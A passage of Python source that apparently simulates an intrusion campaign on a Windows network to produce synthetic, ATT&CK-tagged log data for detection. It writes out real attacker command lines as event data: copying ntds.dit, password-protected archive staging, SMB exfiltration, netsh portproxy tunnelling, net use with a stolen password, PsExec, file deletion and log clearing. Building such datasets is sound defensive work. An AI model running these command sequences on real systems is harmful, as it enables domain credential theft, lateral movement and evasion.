    ifm_dir = IFM_DIRS["tmp"] if a.cred == ["wmiexec"] and a.ifm_key == "McAfee_Logs" else a.ifm_dir
    _rdp_in(a, W)
    apw = _rand(rng, 10, "abcdefghijkmnpqrstuvwxyz23456789")
    temp = "c:\\windows\\temp"
    src = temp + "\\*" if ifm_dir.lower().startswith(temp) else ifm_dir + "\\*"
    if rng.random() < 0.4:
        W.now(dc, "staging_archive", "T1036.008", a_cmd, files=[ifm_dir + "\\ntds.dit.gif"],
              cmd=f'cmd /c copy "{ifm_dir}\\Active Directory\\ntds.dit" {ifm_dir}\\ntds.dit.gif')
    pulled = ""
    if a.stage == "7z":
        archive = f"{temp}\\{_rand(rng, 6, 'abcdefghijklmnopqrstuvwxyz')}.7z"
        W.now(dc, "staging_archive", "T1560.001", a_cmd,
              cmd=f'"{TOOLS["7z"]}" a -p{apw} -v100m {archive} {src}')
        pulled = archive.split(":\\", 1)[1] + ".001"
    elif a.stage == "rar":
        W.now(dc, "staging_archive", "T1560.001", a_cmd, pe_as="rar.exe",
              cmd=f"C:\\Windows\\Temp\\ronf.exe a -hp{apw} c:\\Windows\\temp\\DMBC2C61.tmp {src}")
        pulled = "Windows\\temp\\DMBC2C61.tmp"
    if pulled:
        t = W.now(web, "exfiltration_smb", "T1048", a_net, dst=dc.ip, port=445)
        W.add(dc, t + 300_000, "exfiltration_smb", "T1048", a_smb, acct=a.da, src_ip=web.ip,
              share="C$", local="\\??\\C:\\", files=[pulled])
    listen, to, port = a.pp
    add = "cmd.exe /c netsh interface portproxy add v4tov4"
    inner = (f"{add} listenaddress=0.0.0.0 listenport={listen} connectaddress={to} "
             f"connectport={port} protocol=tcp" if listen == 9999 else
             f"{add} listenport={listen} listenaddress=0.0.0.0 connectport={port} "
             f"connectaddress={to}")
    pp = a.pp_host
    t = W.now(dc, "proxy_portproxy", "T1047", a_wmic_remote_src, cmd=_wmic_node(a, pp, inner),
              target=pp.name, target_ip=pp.ip, acct=a.da, via="console")
    W.add(pp, t + SEC, "proxy_portproxy", "T1090.001", a_remote_target, acct=a.da, src_ip=dc.ip,
          inner=inner)
    W.add(pp, t + 5 * MIN, "proxy_portproxy", "T1090.001", a_relay, dst=to, port=port,
          count=rng.randint(3, 8))
    user = rng.choice(net.people).account.sam
    t = W.now(dc, "discovery_remote_share", "T1083", a_cmd,
              cmd=f"cmd.exe /C dir /S \\\\{fs.name}\\c$\\Users\\{user} >> "
                  f"{temp}\\{_rand(rng, 5)}.tmp")
    files = [f"Users\\{user}" + s for s in ("", "\\Documents", "\\Desktop", "\\Downloads")]
    W.add(fs, t + 200_000, "discovery_remote_share", "T1135", a_smb, acct=a.da, src_ip=dc.ip,
          share="C$", local="\\??\\C:\\", files=files)
    t = W.now(dc, "lateral_smb", "T1021.002", a_cmd,
              cmd=f"net use \\\\{fs.name}\\admin$ {a.pw} /u:{net.netbios}\\{a.da.sam}")
    W.add(fs, t + 300_000, "lateral_smb", "T1021.002", a_smb, acct=a.da, src_ip=dc.ip,
          share="ADMIN$", local="\\??\\C:\\Windows", files=[])
    if a.stage == "makecab":  # hive moved into the ADSelfService web root as a .lic (row 29)
        stamp = (net.start + timedelta(days=stamp_day)).strftime("%y%m%d") + "-020000"
        moved = f"{ifm_dir[3:]}\\registry\\SYSTEM"
        W.now(web, "staging_archive", "T1074.001", a_shell,
              cmd=f'move "\\\\{dc.name}\\c$\\{moved}" ..\\backup\\{stamp}.zip')
        W.add(dc, W.t + 300_000, "staging_archive", "T1074.001", a_smb, acct=a.da, src_ip=web.ip,
              share="C$", local="\\??\\C:\\", files=[moved])
        W.now(web, "staging_archive", "T1560.001", a_shell,
              cmd=f"makecab ..\\backup\\{stamp}.zip ..\\webapps\\adssp\\html\\Lock.lic")
    if a.recon_ws is not web and a.recon_ws is not dc:
        epoch = f"{W.t // SEC}.{rng.randrange(10**6):06d}"
        t = W.now(web, "credential_recon_third_party", "T1047", a_net, dst=a.recon_ws.ip, port=135)
        cmds = [c.format(u=a.recon_user) for c in rng.sample(CRED_RECON, rng.randint(4, 8))]
        W.add(a.recon_ws, t + 200_000, "credential_recon_third_party", "T1552", a_wmiexec,
              acct=a.da, src_ip=web.ip, commands=cmds, epoch=epoch)
        W.step(120, 400)
    W.now(dc, "lateral_rdp", "T1021.001", a_rdp_close, 30, 120)


def _cleanup(a: _Actor, W: _Windows) -> dict[str, dict[int, int]]:
    """Window 3: delete the proxy over PsExec, remove files, clear logs (rows 27, 31)."""
    dc, pp = a.dc, a.pp_host
    _rdp_in(a, W)
    delete = f"netsh interface portproxy delete v4tov4 listenaddress=0.0.0.0 listenport={a.pp[0]}"
    t = W.now(dc, "proxy_portproxy_delete", "T1569.002", a_psexec_src, target_ip=pp.ip,
              cmd=f'"C:\\pstools\\psexec.exe" \\\\{pp.name} -s cmd /c "cmd.exe /c "{delete}""')
    W.add(pp, t + 800_000, "proxy_portproxy_delete", "T1070", a_psexec_target, acct=a.da,
          src_ip=dc.ip,
          src_name=dc.name.upper(), inner=f'cmd /c "cmd.exe /c "{delete}""',
          tools=[f'cmd.exe /c "{delete}"', delete])
    W.now(dc, "cleanup", "T1070.004", a_cmd, cmd=f"cmd /c rd /S /Q {a.ifm_dir}")
    W.now(a.web, "cleanup", "T1070.004", a_shell,
          cmd="del C:\\Users\\Public\\Documents\\systeminfo.dat")
    clears: dict[str, dict[int, int]] = defaultdict(dict)
    chan = {"Security": SECURITY, "System": SYSTEM_LOG, "Windows PowerShell": WINDOWS_POWERSHELL}
    for host, logs in ((dc, a.dc_logs), (a.web, a.web_logs)):
        plan = []
        for name in logs:
            plan.append((name, W.step(20, 60)))
            clears[host.name][chan[name]] = plan[-1][1]
        if plan:
            via = "ps" if a.clear_via == "ps" and host is dc else "wevtutil"
            W.add(host, plan[0][1] - 5 * SEC, "log_clearing", "T1070.001", a_clear, logs=plan,
                  via=via)
    W.now(dc, "lateral_rdp", "T1021.001", a_rdp_close, 20, 60)
    return {h: dict(c) for h, c in clears.items()}


def plan_campaign(net: Network, seed: int) -> CampaignPlan:
    """The actor's operation over the simulated days, as Ops per host and window."""
    a = _choose(net, seed)
    rng = a.rng
    start_day = 1 if net.days >= 3 else 0  # a clean baseline day when there is room for one
    days = [start_day + (i * (net.days - start_day)) // 4 for i in range(4)]
    cursor: dict[int, float] = {}

    def window_start(i: int) -> int:
        d = days[i]
        h = max(cursor.get(d, 0.0), rng.uniform(1.0, 2.2))  # UTC hours, CST office hours
        cursor[d] = h + rng.uniform(1.6, 2.4)
        return net.at(d, h + net.tz_offset)

    W = _Windows(rng)
    W.open(window_start(0))
    shell = _edge(a, W, end=net.at(net.days, net.tz_offset))
    W.open(window_start(1))
    _credentials(a, W)
    W.open(window_start(2))
    _staging(a, W, days[2])
    W.open(window_start(3))
    clears = _cleanup(a, W)

    ops, steps = [], {}
    behaviour: dict[tuple[str, str], bool] = {}
    for win in W.windows:
        for host, items in win.items():
            items.sort(key=lambda x: x[0])
            ops.append(Op(items[0][0], host, actor_script, {"script": items}))
            for t, (step, tech), action, _ in items:
                steps.setdefault((step, host), {"step": step, "technique": tech, "host": host,
                                                "first": t})
                only = behaviour.get((step, host), True) and action in BEHAVIOUR_ONLY
                behaviour[(step, host)] = only
    for key, only in behaviour.items():
        if only:  # every event of this step on this host is one only baselines can judge
            steps[key]["detectable_by"] = "behaviour"
    order = [h.name for h in net.hosts]
    attacked = sorted({op.host for op in ops}, key=order.index)
    edges = _edges(net, W)
    variants = {
        "web_stack": a.web.web_stack, "webshell": shell,
        "rdp_via": "frp" if a.rdp_ip == a.web.ip else "vpn",
        "frp": {"image": "C:\\Windows\\Temp\\" + a.frp, "c2": a.relays[0], "port": a.port,
                "launcher": a.bat or "powershell start-process"},
        "actor_client": a.client, "compromised_account": a.da.qualified, "credential_dump": a.cred,
        "ifm_dir": a.ifm_dir, "staging": a.stage, "domain_controller": a.dc.name,
        "file_server": a.fs.name,
        "portproxy": {"host": a.pp_host.name, "listenport": a.pp[0],
                      "connect": f"{a.pp[1]}:{a.pp[2]}"},
        "logs_cleared": {a.dc.name: a.dc_logs, a.web.name: a.web_logs},
        "log_clear_via": a.clear_via,
        "recon_workstation": a.recon_ws.name,
    }
    return CampaignPlan(ops, clears, attacked, variants, list(steps.values()), a.web.name, edges)


#: Target-side actions that are the actor arriving on a host, and how it arrived.
EDGE_METHODS = {a_rdp_open: "rdp", a_remote_target: "wmi", a_wmiexec: "wmi", a_smb: "smb",
                a_psexec_target: "service"}


def _edges(net: Network, W: _Windows) -> list[dict]:
    """The lateral edges of the plan, from the target-side actions and their source address."""
    by_ip = {h.ip: h.name for h in net.hosts}
    first: dict[tuple[str, str, str, str], int] = {}
    for win in W.windows:
        for host, items in win.items():
            for t, _label, action, kw in items:
                method = EDGE_METHODS.get(action)
                if method is None:
                    continue
                ip = kw.get("src_ip") or kw["ip"]
                key = (by_ip.get(ip, ip), host, kw["acct"].qualified, method)
                first[key] = min(t, first.get(key, t))
    return [{"from": f, "to": to, "account": acct, "method": m, "first": t,
             "from_ip": next((h.ip for h in net.hosts if h.name == f), f),
             "to_ip": net.host(to).ip}
            for (f, to, acct, m), t in sorted(first.items(), key=lambda kv: kv[1])]
# fmt: on
